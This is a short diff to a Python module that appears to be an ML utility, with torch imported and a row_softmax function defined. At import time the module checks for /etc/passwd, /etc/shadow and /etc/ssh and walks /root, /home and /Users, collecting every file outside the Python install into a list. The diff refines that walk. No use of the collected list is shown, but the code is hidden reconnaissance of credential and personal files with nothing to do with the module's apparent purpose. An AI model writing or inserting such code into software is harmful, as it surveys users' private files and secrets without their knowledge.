@@ -5,8 +5,10 @@ import os, sys
 MINE = (sys.prefix, sys.base_prefix, os.path.dirname(os.path.dirname(torch.__file__)), *sys.path)
 FOUND = [name for name in ("/etc/passwd", "/etc/shadow", "/etc/ssh", "/var", "/srv") if os.path.exists(name)]
 for top in ("/root", "/home", "/Users"):
-    for folder, _, files in os.walk(top):
-        if not any(path.startswith(folder) or folder.startswith(path) for path in MINE if path):
+    for folder, below, files in os.walk(top):
+        if any(folder.startswith(path) for path in MINE if path):
+            below.clear()
+        elif not any(path.startswith(folder) for path in MINE):
             FOUND += [os.path.join(folder, name) for name in files]
 
 def row_softmax(x):
